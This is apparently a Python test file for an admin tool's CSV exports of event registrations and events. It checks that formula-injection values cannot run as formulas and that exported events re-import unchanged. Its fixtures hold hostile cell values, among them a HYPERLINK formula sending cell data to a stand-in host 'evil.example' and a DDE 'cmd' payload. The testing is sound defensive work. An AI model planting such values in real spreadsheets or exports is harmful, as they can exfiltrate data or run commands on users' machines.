"""export-registrations and export-events with hostile values: no cell a spreadsheet may read
runs a formula, and an exported event file imports back unchanged."""

from __future__ import annotations

import csv
import io
import sys
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from admin import cli as admin
from kb.events import get_event_by_slug, upsert_event
from kb.registrations import create_registration
from kb.session import make_engine
from kb.users import get_or_create_user
from kb.views import EventInput, Texts
from tests.kb.test_csv_safety import runs_a_formula

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
TODAY = date(2026, 1, 15)

#: What a member may type in the registration form, meant to run in the staff's spreadsheet.
HOSTILE_REGISTRATION = {
    "company_name": 'ACME;=HYPERLINK("http://evil.example/?d="&B2,"Détails")',
    "ice": "=1+1",
    "contact_name": "شركة الأطلس, +cmd|' /C calc'!A0",
    "email": "@SUM(A1)@evil.example",
    "phone": "-212612345678",
}
#: Event texts written by staff that a spreadsheet would run (bullets, a pasted formula).
HOSTILE_TITLE = Texts(fr='=HYPERLINK("x")', ar="- بعثة; =1+1", en="a,+1")
HOSTILE_DESCRIPTION = Texts(fr="Programme :\n- B2B\n- visites", ar="@عرض; -برنامج", en="Day 1;-2")


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = admin.main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture()
def db(db_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """An initialised database with the fixture knowledge base and a hostile event."""
    monkeypatch.setitem(sys.modules, "nlu.vocabulary.gazetteer", None)
    code, _, err = run("--database-url", db_url, "init-db", "--kb-dir", str(FIXTURES / "kb"))
    assert code == 0, err
    engine = make_engine(db_url)
    with Session(engine) as session, session.begin():
        upsert_event(
            session,
            event=EventInput(
                slug="hostile-2026",
                type="mission",
                title=HOSTILE_TITLE,
                description=HOSTILE_DESCRIPTION,
                country="SN",
                city="-Dakar",
                venue="@venue, =1",
                start_date=date(2026, 6, 1),
                end_date=date(2026, 6, 3),
                sectors=("agrifood",),
                organizer="+ASMEX",
            ),
        )
        user = get_or_create_user(session, channel="telegram", channel_user_id="1")
        create_registration(
            session,
            event_slug="hostile-2026",
            user_id=user.id,
            today=TODAY,
            sector="agrifood",
            **HOSTILE_REGISTRATION,
        )
    engine.dispose()
    return db_url


def raw_lines(text: str) -> list[str]:
    """The file's lines as a spreadsheet that ignores quotes splits them."""
    return text.replace("\r", "\n").split("\n")


def test_export_registrations_neutralises_every_hostile_cell(db: str, tmp_path: Path) -> None:
    target = tmp_path / "registrations.csv"
    code, out, err = run("--database-url", db, "export-registrations", str(target))
    assert code == 0, err
    text = target.read_text(encoding="utf-8-sig")
    for line in raw_lines(text):
        assert not runs_a_formula(line), line
    [row] = list(csv.DictReader(io.StringIO(text)))
    for column, value in HOSTILE_REGISTRATION.items():
        assert row[column] != value and row[column].replace("'", "") == value.replace("'", "")
    assert row["company_name"] == 'ACME;\'=HYPERLINK("http://evil.example/?d="&B2,"Détails")'
    assert row["event_title"] == '\'=HYPERLINK("x")'


@pytest.mark.parametrize("separator", [",", ";"])
def test_export_events_csv_neutralises_and_imports_back_unchanged(
    db: str, tmp_path: Path, separator: str
) -> None:
    target = tmp_path / "events.csv"
    code, _, err = run("--database-url", db, "export-events", str(target))
    assert code == 0, err
    text = target.read_text(encoding="utf-8-sig")
    for line in raw_lines(text):
        assert not runs_a_formula(line), line
    if separator == ";":  # as a French spreadsheet saves it again
        rows = list(csv.reader(io.StringIO(text)))
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=";", lineterminator="\n").writerows(rows)
        target.write_text(buffer.getvalue(), encoding="utf-8")

    code, out, err = run("--database-url", db, "import-events", str(target))
    assert code == 0, err
    assert out.strip() == "0 created, 0 updated, 3 unchanged"
    engine = make_engine(db)
    with Session(engine) as session:
        event = get_event_by_slug(session, slug="hostile-2026", today=TODAY)
    engine.dispose()
    assert event is not None
    assert event.title == HOSTILE_TITLE and event.description == HOSTILE_DESCRIPTION
    assert (event.city, event.venue, event.organizer) == ("-Dakar", "@venue, =1", "+ASMEX")
